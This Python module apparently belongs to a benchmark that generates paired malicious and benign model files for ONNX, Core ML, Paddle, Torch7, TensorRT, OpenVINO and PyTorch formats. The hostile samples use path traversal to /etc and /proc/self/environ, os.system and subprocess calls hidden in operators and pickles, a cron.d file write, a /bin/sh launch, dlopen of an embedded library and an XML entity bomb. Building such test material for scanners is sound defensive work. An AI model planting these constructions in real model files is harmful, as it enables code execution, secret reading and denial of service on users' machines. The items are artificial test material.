"""Attacks by other graphs: ONNX, Core ML, Paddle, Torch7, TensorRT, OpenVINO, TorchScript, torch.package and exported programs."""

from __future__ import annotations

import base64
import json
import struct
from collections.abc import Iterator

from bench.modelfiles.heldout import tensorflow
from bench.modelfiles.heldout.opcodes import SYSTEM, WEIGHTS, call, done, tensor_state, torch_zip
from bench.modelfiles.heldout.parts import field, zipped
from bench.modelfiles.heldout.sample import Content, Group, Sample

group = Group("graphs")
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 3, 62, 1) + bytes(40)
SESSION = "onnxruntime creates a session"


def entry(key: str, value: str) -> bytes:
    """Return a StringStringEntryProto."""
    return field(1, key) + field(2, value)


def outside(*entries: tuple[str, str], name: str = "w") -> bytes:
    """Return a TensorProto whose data lie outside."""
    return field(1, 2) + field(2, 1) + field(8, name) + b"".join(field(13, entry(*one)) for one in entries) + field(14, 1)


def operator(kind: str, domain: str = "", *attributes: bytes) -> bytes:
    """Return a NodeProto."""
    return field(1, "x") + field(2, "y") + field(4, kind) + field(5, *attributes) + (field(7, domain) if domain else b"")


def attribute(name: str, value: str | int) -> bytes:
    """Return an AttributeProto of text or a number."""
    return field(1, name) + (field(4, value) + field(20, 3) if isinstance(value, str) else field(3, value) + field(20, 2))


def onnx(*nodes: bytes, tensors: tuple[bytes, ...] = (), more: bytes = b"", domain: str = "", graph_more: bytes = b"") -> bytes:
    """Return a ModelProto."""
    shape = field(1, "x") + field(2, field(1, field(1, 1) + field(2, field(1, field(1, 1)))))
    body = field(1, *nodes) + field(2, "g") + field(5, *tensors) + field(11, shape) + field(12, shape.replace(b"x", b"y", 1)) + graph_more
    opset = field(8, field(1, "") + field(2, 21)) + (field(8, field(1, domain) + field(2, 1)) if domain else b"")
    return field(1, 10) + field(2, "pytorch") + field(7, body) + opset + more


RELU = operator("Relu")


def onnx_files() -> Iterator[Sample]:
    """Yield ONNX files."""
    context = attribute("embed_mode", 0)
    weights = ("location", "weights.bin"), ("offset", "0"), ("length", "8")
    branch = [
        operator("If", "", field(1, "then_branch") + field(6, field(1, RELU) + field(2, "b") + field(5, one)) + field(20, 5))
        for one in (outside(("location", "/etc/hostname")), outside(*weights))
    ]
    yield from group.pairs(
        ("ep-context", "ctx.onnx",
         onnx(operator("EPContext", "com.microsoft", context, attribute("ep_cache_context", "../../tmp/x/engine.bin")), domain="com.microsoft"),
         onnx(operator("FusedMatMul", "com.microsoft", attribute("transA", 0)), domain="com.microsoft"),
         f"{SESSION}: the provider loads a compiled engine from a path outside the folder"),
        ("external-climbs", "m.onnx", onnx(RELU, tensors=(outside(("location", "../../../etc/hostname")),)), onnx(RELU, tensors=(outside(*weights),)),
         "onnx.load reads a local file as weights"),
        ("location-twice", "n.onnx", onnx(RELU, tensors=(outside(("location", "weights.bin"), ("location", "/etc/hostname")),)),
         onnx(RELU, tensors=(outside(("location", "weights.bin"), ("checksum", "00")),)), "onnx.load takes the last of two locations"),
        ("external-length", "o.onnx", onnx(RELU, tensors=(outside(("location", "weights.bin"), ("offset", "-4096"), ("length", "18446744073709551615")),)),
         onnx(RELU, tensors=(outside(*weights),)), "a loader that trusts offset and length reads outside of the file or takes all memory"),
        ("external-attribute", "p.onnx",
         onnx(operator("Constant", "", field(1, "value") + field(5, outside(("location", "/proc/self/environ"))) + field(20, 4))),
         onnx(operator("Constant", "", field(1, "value") + field(5, field(1, 1) + field(2, 1) + field(4, 0.5)) + field(20, 4))),
         "onnx.load reads data of a tensor in an attribute, too"),
        ("external-branch", "q.onnx", onnx(branch[0]), onnx(branch[1]), "onnx.load reads data of a tensor in a branch, too"),
    )  # fmt: skip
    sparse = [field(15, field(1, one) + field(3, 1)) for one in (outside(("location", "C:\\Windows\\win.ini")), outside(*weights))]
    python = attribute("func_module", "os"), attribute("func_name", "system")
    yield from group.pairs(
        ("external-sparse", "r.onnx", onnx(RELU, graph_more=sparse[0]), onnx(RELU, graph_more=sparse[1]),
         "a loader reads sparse weights from an absolute Windows path"),
        ("python-operator", "s.onnx", onnx(operator("PythonOp", "com.microsoft", *python), domain="com.microsoft"),
         onnx(operator("Gelu", "com.microsoft"), domain="com.microsoft"), "onnxruntime-training calls the function of Python that the node names"),
        ("py-custom-op", "t.onnx", onnx(operator("PyCustomOpDef_system", "ai.onnx.contrib", attribute("cmd", "echo")), domain="ai.onnx.contrib"),
         onnx(operator("BertTokenizer", "ai.onnx.contrib", attribute("do_lower_case", 1)), domain="ai.onnx.contrib"),
         "onnxruntime-extensions calls back into Python"),
    )  # fmt: skip
    config = [
        json.dumps({"session_options": one})
        for one in ({"register_custom_ops_library": "/tmp/x/libx.so", "optimized_model_filepath": "/tmp/x/y"}, {"intra_op_num_threads": 1})
    ]
    yield from group.pair(
        "session-config",
        "u.onnx",
        onnx(RELU, more=field(14, entry("ort_config", config[0]))),
        onnx(RELU, more=field(14, entry("ort_config", config[1]))),
        f"{SESSION} with options from the model, among them a library",
    )
    function = [
        field(25, field(1, "Net") + field(7, one) + field(10, "local")) for one in (operator("PythonOp", "my.domain", *python), RELU)
    ]
    yield from group.pair("local-function", "v.onnx", onnx(operator("Net", "local"), more=function[0]), onnx(operator("Net", "local"), more=function[1]), "the Python operator lies in a function of the model")  # fmt: skip


def others() -> Iterator[Sample]:
    """Yield Core ML, Paddle, Torch7, TensorRT and OpenVINO."""
    custom = [
        field(1, 4) + field(500, field(1, field(1, "l") + field(2, "x") + field(3, "y") + one))
        for one in (
            field(500, field(10, "NSTask") + field(30, field(1, "launchPath") + field(2, field(20, "/bin/sh")))),
            field(130, field(10, b"")),
        )
    ]
    yield from group.pair("coreml-layer", "net.mlmodel", custom[0], custom[1], "Core ML instantiates the class that the custom layer names")
    model = [
        field(1, 4) + one
        for one in (
            field(555, field(10, "NSTask") + field(30, field(1, "arguments") + field(2, field(20, "echo")))),
            field(300, field(1, field(1, 0.5))),
        )
    ]
    yield from group.pair(
        "coreml-custom", "whole.mlmodel", model[0], model[1], "Core ML instantiates the class that the custom model names"
    )
    linked = [field(1, 4) + field(556, field(1, field(1, field(1, one)))) for one in ("../../../tmp/x/other.mlmodelc", "encoder.mlmodelc")]

    def paddle(kind: str, key: str, value: str) -> bytes:
        described = field(1, field(1, "X") + field(2, "x")) + field(3, kind) + field(4, field(1, key) + field(2, 2) + field(5, value))
        return field(1, field(1, 0) + field(2, -1) + field(4, described)) + field(4, field(1, 0))

    lua = struct.pack("<ii", 8, 1) + struct.pack("<i", 14) + b"\x1bLJ\x02\x02os.execute" + struct.pack("<ii", 3, 2) + struct.pack("<i", 0)
    plain = struct.pack("<iii", 3, 1, 1) + struct.pack("<ii", 2, 5) + b"epoch" + struct.pack("<id", 1, 3.0)
    plan = b"ptrt" + struct.pack("<IIQ", 0x23, 0x0A, 256)
    net = '<?xml version="1.0"?>\n<!DOCTYPE n [{}]>\n<net name="{}" version="11"><layers/><edges/></net>\n'
    laughs = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    layer = '<?xml version="1.0"?>\n<CustomLayer name="L" type="SimpleGPU" version="1"><Kernel entry="k"><Source filename="{}"/></Kernel></CustomLayer>\n'
    yield from group.pairs(
        ("coreml-linked", "linked.mlmodel", linked[0], linked[1], "Core ML loads the linked model outside of the bundle"),
        ("paddle-py-func", "inference.pdmodel", paddle("py_func", "forward_callable_id", "0"), paddle("relu", "op_device", ""),
         "Paddle's executor calls a function of Python"),
        ("paddle-save", "__model__", paddle("save_combine", "file_path", "/etc/cron.d/x"), paddle("scale", "op_namescope", "/"),
         "Paddle's executor writes a file at the path"),
        ("torch7", "net.t7", lua, plain, "torch.load of Lua Torch restores the function from bytecode"),
        ("tensorrt-plugin", "net.engine", plan + bytes(64) + ELF + b"dlopen\0libplugin.so\0system\0", plan + bytes(range(256)),
         "TensorRT deserializes the engine and loads the plug-in library in it"),
        ("openvino-laughs", "model.xml", net.format(laughs, "&j;"), net.format('<!ENTITY a "net">', "&a;"),
         "a parser of XML expands the entity to gigabytes"),
        ("openvino-kernel", "custom_layer.xml", layer.format("/tmp/x/kernel.cl"), layer.format("kernel.cl"),
         "OpenVINO's GPU plug-in compiles and runs the source at an absolute path"),
    )  # fmt: skip


def torch_files() -> Iterator[Sample]:
    """Yield TorchScript, torch.package and exported programs."""
    script = (
        "class Net(Module):\n  __parameters__ = []\n  __buffers__ = []\n  def forward(self, x: Tensor) -> Tensor:\n    {}\n    return x\n"
    )

    def scripted(line: str, data: bytes = WEIGHTS, constants: bytes = b"\x80\x02).") -> bytes:
        return torch_zip(data, "net", {"net/code/__torch__/net.py": script.format(line).encode(), "net/constants.pkl": constants})

    fine = scripted("x = torch.relu(x)")

    def package(source: str, data: bytes) -> bytes:
        return zipped({"p/.data/version": "6", "p/.data/extern_modules": "os\ntorch\n", "p/net.py": source, "p/model/model.pkl": data})

    def exported(more: dict[str, Content]) -> bytes:
        return zipped({"m/archive_format": "pt2", "m/models/model.json": {"graph_module": {}}, "m/data/weights/weight_0": bytes(8), **more})

    custom = [base64.b64encode(done(one)).decode() for one in (call("subprocess:getoutput", "echo"), STATE_ONLY)]
    yield from group.pairs(
        ("script-save", "script.pt", scripted('torch.save(x, "/tmp/x/authorized")'), fine, "torch.jit.load, and forward writes a file"),
        ("script-from-file", "mapped.pt", scripted('x = torch.from_file("/etc/hostname", False, 16, dtype=0)'), scripted("x = torch.full([2], 1., dtype=6)"),
         "torch.jit.load, and forward maps a local file"),
        ("script-ops", "ops.pt", scripted('x = ops.aten.from_file("/tmp/x/new", True, 4096)'), scripted("x = ops.aten.gelu(x)"),
         "forward creates and writes a shared file"),
        ("script-stride", "stride.pt", scripted("x = torch.as_strided(x, [1000000], [1], -4096)"), scripted("x = torch.reshape(x, [2, -1])"),
         "forward reads memory before the tensor"),
        ("script-constants", "constants.pt", scripted("x = torch.relu(x)", constants=done(SYSTEM, 2)), fine,
         "programs that open constants.pkl with pickle run it"),
        ("package-source", "net.package.pt", package("import os\nos.system('echo harmless')\nclass Net:\n    pass\n", WEIGHTS),
         package("import torch\nclass Net(torch.nn.Module):\n    pass\n", WEIGHTS), "PackageImporter.load_pickle imports the source in the package"),
        ("package-pickle", "data.package.pt", package("class Net:\n    pass\n", done(SYSTEM)), package("class Net:\n    pass\n", WEIGHTS),
         "PackageImporter.load_pickle runs the pickle"),
        ("export-library", "aot.pt2", exported({"m/data/aotinductor/model/c.so": ELF, "m/data/aotinductor/model/c.wrapper.cpp": "int main() {}"}),
         exported({"m/data/constants/tensor_0": bytes(8)}), "aoti_load_package loads the library with dlopen"),
        ("export-target", "target.pt2",
         exported({"m/models/model.json": {"graph_module": {"graph": {"nodes": [{"target": "os.system", "inputs": [{"name": "c",
             "arg": {"as_string": "echo"}}]}]}}}}),
         exported({"m/models/model.json": {"graph_module": {"graph": {"nodes": [{"target": "torch.ops.aten.relu.default", "inputs": [{"name": "c",
             "arg": {"as_tensor": {"name": "x"}}}]}]}}}}), "torch.export.load resolves the target of a node by its name"),
        ("export-inputs", "inputs.pt2", exported({"m/data/sample_inputs/model.pt": torch_zip(done(SYSTEM))}),
         exported({"m/data/sample_inputs/model.pt": torch_zip(done(tensor_state(), 2))}), "torch.export.load reads sample inputs with torch.load"),
        ("export-custom-object", "objects.pt2", exported({"m/data/constants/custom_obj_0": done(SYSTEM), "m/models/m.json": {"constants": custom[0]}}),
         exported({"m/data/constants/tensor_0": bytes(8), "m/models/m.json": {"constants": custom[1]}}),
         "custom objects of an exported program are unpickled"),
    )  # fmt: skip


STATE_ONLY = tensor_state()


def samples() -> Iterator[Sample]:
    """Yield the samples of this class."""
    yield from (*tensorflow.samples(), *onnx_files(), *others(), *torch_files())
